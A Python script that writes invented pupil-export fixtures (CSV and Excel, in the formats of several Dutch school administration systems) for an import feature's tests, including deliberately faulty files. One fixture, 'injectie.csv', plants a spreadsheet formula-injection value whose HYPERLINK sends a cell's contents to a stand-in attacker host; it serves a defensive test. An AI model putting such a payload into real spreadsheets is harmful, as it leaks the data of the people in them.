"""Writes the made-up export files of the import tests (run: python tests/leerlingen/files/make_files.py).

Every name, address and number is invented; the BSNs pass the eleven-test but belong to nobody.
The headers are those of leerlingen/imports/formats.py plus columns the exports carry that the
import does not use (they are ignored).
"""

import csv
import io
import sys
import zipfile
from datetime import date
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[2]))

from leerlingen.imports.formats import FORMATS  # noqa: E402


def bsn(n: int) -> str:
    """Same as leerlingen.demo.bsn_from (kept here so the script needs no Django)."""
    while True:
        digits = f"{n:08d}"[-8:]
        total = sum(int(d) * w for d, w in zip(digits, (9, 8, 7, 6, 5, 4, 3, 2), strict=True))
        if total % 11 < 10:
            return digits + str(total % 11)
        n += 1


def ouder(voornaam, achternaam, relatie, email, telefoon, gezag=True, tussenvoegsel="", adres=None):
    return {
        "voorletters": voornaam[0] + ".",
        "voornaam": voornaam,
        "tussenvoegsel": tussenvoegsel,
        "achternaam": achternaam,
        "relatie": relatie,
        "heeft_gezag": gezag,
        "email": email,
        "telefoon": telefoon,
        **(adres or {}),
    }


def adres(straat, huisnummer, postcode, woonplaats, toevoeging=""):
    return {
        "straat": straat,
        "huisnummer": huisnummer,
        "huisnummer_toevoeging": toevoeging,
        "postcode": postcode,
        "woonplaats": woonplaats,
    }


TIEL = "Tiel"
# Primary school OBS De Vlieger (07XY): groups "Groep 3" .. "Groep 8".
PO = [
    dict(
        leerlingnummer="2301",
        achternaam="Jansen",
        roepnaam="Daan",
        voornamen="Daan Pieter",
        geslacht="m",
        geboortedatum=date(2016, 3, 14),
        geboorteplaats="Tiel",
        bsn=bsn(31_000_017),
        groep="Groep 5",
        datum_inschrijving=date(2020, 8, 24),
        **adres("Kerkstraat", "12", "4001 AB", TIEL),
        ouders=[
            ouder("Mirjam", "Jansen", "moeder", "mirjam.jansen@voorbeeld.nl", "0612345678"),
            ouder("Erik", "Jansen", "vader", "erik.jansen@voorbeeld.nl", "0623456789"),
        ],
    ),
    dict(
        leerlingnummer="2302",
        achternaam="Jansen",
        roepnaam="Sophie",
        voornamen="Sophie Anna",
        geslacht="v",
        geboortedatum=date(2018, 9, 2),
        geboorteplaats="Tiel",
        bsn=bsn(31_000_214),
        groep="Groep 3",
        datum_inschrijving=date(2022, 9, 5),
        **adres("Kerkstraat", "12", "4001 AB", TIEL),
        ouders=[
            ouder("Mirjam", "Jansen", "moeder", "mirjam.jansen@voorbeeld.nl", "0612345678"),
            ouder("Erik", "Jansen", "vader", "erik.jansen@voorbeeld.nl", "0623456789"),
        ],
    ),
    dict(
        leerlingnummer="2303",
        achternaam="Berg",
        tussenvoegsel="van den",
        roepnaam="Zoë",
        voornamen="Zoë Maria",
        geslacht="v",
        geboortedatum=date(2015, 1, 30),
        geboorteplaats="Culemborg",
        bsn=bsn(1_234_567),
        groep="Groep 6",
        datum_inschrijving=date(2019, 8, 26),
        **adres("Burgemeester Mackaystraat", "7", "4001 CD", TIEL, "a"),
        ouders=[
            ouder("Fatma", "Yilmaz", "moeder", "f.yilmaz@voorbeeld.nl", "0634567890"),
            ouder(
                "Joost",
                "Berg",
                "vader",
                "joost.vdberg@voorbeeld.nl",
                "0645678901",
                gezag=False,
                tussenvoegsel="van den",
                adres=adres("Stationsweg", "88", "4011 EF", "Geldermalsen"),
            ),
        ],
    ),
    dict(
        leerlingnummer="2304",
        achternaam="El Idrissi",
        roepnaam="Yassin",
        voornamen="Yassin",
        geslacht="m",
        geboortedatum=date(2014, 6, 21),
        geboorteplaats="Utrecht",
        nationaliteit="Nederlandse",
        bsn=bsn(31_000_411),
        groep="Groep 7",
        datum_inschrijving=date(2018, 8, 27),
        **adres("Waalkade", "3", "4001 GH", TIEL, "2"),
        ouders=[
            ouder("Naima", "El Idrissi", "moeder", "naima.elidrissi@voorbeeld.nl", "0656789012")
        ],
    ),
    dict(
        leerlingnummer="2305",
        achternaam="Vries",
        tussenvoegsel="de",
        roepnaam="Bram",
        voornamen="Abraham Johannes",
        geslacht="m",
        geboortedatum=date(2013, 11, 5),
        geboorteplaats="Tiel",
        bsn=bsn(31_000_608),
        groep="Groep 8",
        datum_inschrijving=date(2017, 8, 28),
        **adres("Papesteeg", "21", "4001 JK", TIEL),
        ouders=[
            ouder(
                "Annemiek",
                "Vries",
                "moeder",
                "annemiek@voorbeeld.nl",
                "0667890123",
                tussenvoegsel="de",
            ),
            ouder(
                "Kees",
                "Vries",
                "vader",
                "kees.devries@voorbeeld.nl",
                "0678901234",
                tussenvoegsel="de",
            ),
        ],
    ),
    dict(
        leerlingnummer="2306",
        achternaam="Nguyen",
        roepnaam="Linh",
        voornamen="Linh",
        geslacht="v",
        geboortedatum=date(2017, 4, 18),
        geboorteplaats="Nijmegen",
        bsn=bsn(31_000_805),
        groep="Groep 4",
        datum_inschrijving=date(2021, 8, 23),
        **adres("Hoveniersweg", "145", "4002 LM", TIEL),
        ouders=[
            ouder("Thi", "Nguyen", "moeder", "thi.nguyen@voorbeeld.nl", "0689012345"),
            ouder(
                "Ruud", "Bakker", "verzorger", "ruud.bakker@voorbeeld.nl", "0690123456", gezag=False
            ),
        ],
    ),
    dict(
        leerlingnummer="2307",
        achternaam="Smit",
        roepnaam="Noah",
        voornamen="Noah Willem",
        geslacht="m",
        geboortedatum=date(2016, 7, 7),
        geboorteplaats="Tiel",
        bsn=bsn(31_001_002),
        groep="Groep 5",
        datum_inschrijving=date(2020, 8, 24),
        **adres("Ridderstraat", "9", "4001 NP", TIEL),
        ouders=[ouder("Ingrid", "Smit", "voogd", "voogdij.smit@voorbeeld.nl", "0344765432")],
    ),
    dict(
        leerlingnummer="2308",
        achternaam="Dijk",
        tussenvoegsel="van",
        roepnaam="Emma",
        voornamen="Emma Johanna",
        geslacht="v",
        geboortedatum=date(2015, 10, 12),
        geboorteplaats="Tiel",
        bsn=bsn(31_001_209),
        groep="Groep 6",
        datum_inschrijving=date(2019, 8, 26),
        **adres("Weerstraat", "40", "4001 RS", TIEL),
        ouders=[
            ouder(
                "Petra",
                "Dijk",
                "moeder",
                "petra.vandijk@voorbeeld.nl",
                "0611223344",
                tussenvoegsel="van",
            ),
            ouder(
                "Hans",
                "Dijk",
                "vader",
                "hans.vandijk@voorbeeld.nl",
                "0622334455",
                tussenvoegsel="van",
            ),
        ],
    ),
]
# Secondary school Het Rivierenlyceum (08ZZ): classes "H1A", "V2B", "M3C".
VO = [
    dict(
        leerlingnummer="118234",
        achternaam="Bakker",
        roepnaam="Lotte",
        voornamen="Charlotte Maria",
        geslacht="v",
        geboortedatum=date(2012, 5, 3),
        geboorteplaats="Tiel",
        bsn=bsn(41_000_007),
        groep="H1A",
        datum_inschrijving=date(2025, 8, 18),
        **adres("Lingedijk", "5", "4004 AA", TIEL),
        ouders=[
            ouder("Marloes", "Bakker", "moeder", "marloes.bakker@voorbeeld.nl", "0612121212"),
            ouder("Tom", "Bakker", "vader", "tom.bakker@voorbeeld.nl", "0613131313"),
        ],
    ),
    dict(
        leerlingnummer="118235",
        achternaam="Öztürk",
        roepnaam="Elif",
        voornamen="Elif",
        geslacht="v",
        geboortedatum=date(2011, 2, 27),
        geboorteplaats="Arnhem",
        bsn=bsn(41_000_204),
        groep="V2B",
        datum_inschrijving=date(2024, 8, 19),
        **adres("Laan van Westroijen", "112", "4003 AZ", TIEL),
        ouders=[ouder("Ayşe", "Öztürk", "moeder", "ayse.ozturk@voorbeeld.nl", "0614141414")],
    ),
    dict(
        leerlingnummer="118236",
        achternaam="Hendriks",
        roepnaam="Sem",
        voornamen="Sem Thomas",
        geslacht="m",
        geboortedatum=date(2010, 9, 9),
        geboorteplaats="Tiel",
        bsn=bsn(41_000_401),
        groep="M3C",
        datum_inschrijving=date(2023, 8, 21),
        **adres("Heiligestraat", "2", "4001 XT", TIEL, "b"),
        ouders=[
            ouder("Sandra", "Hendriks", "moeder", "s.hendriks@voorbeeld.nl", "0615151515"),
            ouder("Marco", "Hendriks", "vader", "m.hendriks@voorbeeld.nl", "0616161616"),
        ],
    ),
    dict(
        leerlingnummer="118237",
        achternaam="Hendriks",
        roepnaam="Fleur",
        voornamen="Fleur",
        geslacht="v",
        geboortedatum=date(2012, 12, 1),
        geboorteplaats="Tiel",
        bsn=bsn(41_000_608),
        groep="H1A",
        datum_inschrijving=date(2025, 8, 18),
        **adres("Heiligestraat", "2", "4001 XT", TIEL, "b"),
        ouders=[
            ouder("Sandra", "Hendriks", "moeder", "s.hendriks@voorbeeld.nl", "0615151515"),
            ouder("Marco", "Hendriks", "vader", "m.hendriks@voorbeeld.nl", "0616161616"),
        ],
    ),
    dict(
        leerlingnummer="118238",
        achternaam="Wit",
        tussenvoegsel="de",
        roepnaam="Jesse",
        voornamen="Jesse",
        geslacht="o",
        geboortedatum=date(2011, 7, 15),
        geboorteplaats="Zaltbommel",
        bsn="",
        groep="V2B",
        datum_inschrijving=date(2024, 8, 19),
        **adres("Sint Walburgstraat", "17", "4001 MC", TIEL),
        ouders=[
            ouder(
                "Gerda",
                "Wit",
                "pleegouder",
                "gerda.dewit@voorbeeld.nl",
                "0617171717",
                tussenvoegsel="de",
            )
        ],
    ),
]

SEX = {
    "parnassys": {"m": "M", "v": "V", "o": "O"},
    "esis": {"m": "Man", "v": "Vrouw", "o": "Onbekend"},
    "eduscope": {"m": "M", "v": "V", "o": "X"},
    "somtoday": {"m": "Man", "v": "Vrouw", "o": "Onbekend"},
    "magister": {"m": "M", "v": "V", "o": "O"},
}
GEZAG = {
    "parnassys": ("Ja", "Nee"),
    "esis": ("J", "N"),
    "eduscope": ("ja", "nee"),
    "somtoday": ("Ja", "Nee"),
    "magister": ("1", "0"),
}
DATE = {"parnassys": "%d-%m-%Y", "eduscope": "%d/%m/%Y", "magister": "%d-%m-%Y"}
EXTRA = {  # columns the exports carry that the import does not use
    "parnassys": ["Leerjaar", "Vorige school", "Nationaliteit 2"],
    "esis": ["Leerjaar", "Datum in groep"],
    "eduscope": ["Leerjaar"],
    "somtoday": ["Leerjaar", "Opleiding", "Profiel"],
    "magister": ["Studie", "Mentor"],
}


def flat(pupil: dict, system: str) -> dict[str, object]:
    row = {k: v for k, v in pupil.items() if k != "ouders"}
    row["geslacht"] = SEX[system][pupil["geslacht"]]
    for n, o in enumerate(pupil["ouders"], start=1):
        for key, value in o.items():
            if key == "heeft_gezag":
                value = GEZAG[system][0 if value else 1]
            elif key == "relatie":
                value = value.capitalize()
            elif key in ("straat", "huisnummer", "postcode", "woonplaats") and False:
                pass
            row[f"ouder{n}_{key}"] = value
        for key in ("straat", "huisnummer", "postcode", "woonplaats"):
            row.setdefault(
                f"ouder{n}_{key}", pupil[key] if key != "huisnummer" else pupil["huisnummer"]
            )
    return row


def cells(
    pupils: list[dict], system: str, *, drop: tuple[str, ...] = ()
) -> tuple[list[str], list[list[object]]]:
    mapping = {k: v for k, v in FORMATS[system].items() if k not in drop}
    headers = list(mapping.values()) + EXTRA[system]
    rows = []
    for pupil in pupils:
        row = flat(pupil, system)
        out = []
        for key in mapping:
            value = row.get(key, "")
            if isinstance(value, date) and system in DATE:
                value = value.strftime(DATE[system])
            out.append(value)
        extra = {
            "Leerjaar": str(pupil.get("groep", ""))[-1:],
            "Vorige school": "",
            "Nationaliteit 2": "",
            "Datum in groep": "",
            "Opleiding": "HAVO/VWO",
            "Profiel": "",
            "Studie": "h/v1",
            "Mentor": "JDB",
        }
        out += [extra[h] for h in EXTRA[system]]
        rows.append(out)
    return headers, rows


def write_csv(name, headers, rows, *, delimiter=";", encoding="utf-8", title=None, bom=False):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    if title:
        writer.writerow([title])
    writer.writerow(headers)
    writer.writerows(["" if v is None else v for v in r] for r in rows)
    data = buffer.getvalue().encode(encoding)
    (HERE / name).write_bytes((b"\xef\xbb\xbf" if bom else b"") + data)


def write_xlsx(name, headers, rows, *, numeric_bsn=False, sheet="Leerlingen"):
    from openpyxl import Workbook

    workbook = Workbook()
    ws = workbook.active
    ws.title = sheet
    ws.append(headers)
    for row in rows:
        out = []
        for header, value in zip(headers, row, strict=True):
            if numeric_bsn and header in ("Burgerservicenummer", "BSN") and value:
                value = int(value)  # as Excel stores it: the leading zero is gone
            if header.endswith(("Telefoonnummer", "telefoonnummer")) and value:
                value = int(value)
            out.append(value)
        ws.append(out)
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, date):
                cell.number_format = "DD-MM-YYYY"
    workbook.properties.creator = sheet
    workbook.save(HERE / name)


def changed(pupils: list[dict]) -> list[dict]:
    """The ParnasSys export a few weeks later: one moved, one changed group, one left, one new."""
    out = [
        dict(p, ouders=[dict(o) for o in p["ouders"]])
        for p in pupils
        if p["leerlingnummer"] != "2306"
    ]
    by = {p["leerlingnummer"]: p for p in out}
    by["2305"].update(adres("Tielseweg", "301", "4005 PR", "Wadenoijen"))  # moved
    by["2307"]["groep"] = "Groep 6"  # moved up a group mid-year
    by["2301"]["ouders"][0]["email"] = "m.jansen@voorbeeld.nl"  # new e-mail address of the mother
    by["2302"]["ouders"][0]["email"] = "m.jansen@voorbeeld.nl"
    out.append(
        dict(
            leerlingnummer="2309",
            achternaam="Mulder",
            roepnaam="Finn",
            voornamen="Finn",
            geslacht="m",
            geboortedatum=date(2019, 2, 11),
            geboorteplaats="Tiel",
            bsn=bsn(31_001_406),
            groep="Groep 3",
            datum_inschrijving=date(2026, 1, 5),
            **adres("Kerkstraat", "30", "4001 AB", TIEL),
            ouders=[ouder("Lisa", "Mulder", "moeder", "lisa.mulder@voorbeeld.nl", "0633445566")],
        )
    )
    return out


def main():
    write_csv("parnassys.csv", *cells(PO, "parnassys"), encoding="cp1252")
    write_xlsx("esis.xlsx", *cells(PO[:6], "esis"), numeric_bsn=True)
    write_csv(
        "eduscope.csv",
        *cells(PO[:5], "eduscope"),
        delimiter=",",
        bom=True,
        title="Leerlinglijst OBS De Vlieger, aangemaakt 14-09-2026",
    )
    write_xlsx("somtoday.xlsx", *cells(VO, "somtoday"))
    write_csv("magister.csv", *cells(VO, "magister"), delimiter="\t")
    write_csv("parnassys_gewijzigd.csv", *cells(changed(PO), "parnassys"), encoding="cp1252")

    # Bad input: one problem per file, in a known row and column (the header is row 1).
    def bad(name, edit, *, drop=()):
        pupils = [dict(p, ouders=[dict(o) for o in p["ouders"]]) for p in PO[:4]]
        edit(pupils)
        write_csv(name, *cells(pupils, "parnassys", drop=drop), encoding="cp1252")

    bad(
        "fout_datum.csv", lambda ps: ps[1].update(geboortedatum="31-02-2016")
    )  # row 3, Geboortedatum
    bad(
        "fout_bsn.csv", lambda ps: ps[0].update(bsn="123456789")
    )  # row 2, BSN (fails the eleven-test)
    bad(
        "fout_dubbel_nummer.csv", lambda ps: ps[3].update(leerlingnummer="2302")
    )  # rows 3 and 5, Leerlingnummer
    bad("fout_groep.csv", lambda ps: ps[2].update(groep="Groep 9"))  # row 4, Groep
    bad(
        "fout_ouder_zonder_naam.csv",
        lambda ps: ps[1]["ouders"][1].update(achternaam="", voornaam="", voorletters=""),
    )  # row 3
    bad("fout_geen_sleutel.csv", lambda ps: None, drop=("leerlingnummer",))
    bad(
        "injectie.csv",
        lambda ps: ps[0].update(
            achternaam='=HYPERLINK("http://aanval.example/?d="&C2;"Klik")', roepnaam="+31612345678"
        ),
    )
    # Unreadable: a PNG with a .csv name; a zip that is no workbook.
    (HERE / "onleesbaar.csv").write_bytes(
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)) * 4
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("leerlingen.txt", "Leerlingnummer;Achternaam\r\n1;Test\r\n")
    (HERE / "geen_werkmap.xlsx").write_bytes(buffer.getvalue())


if __name__ == "__main__":
    main()
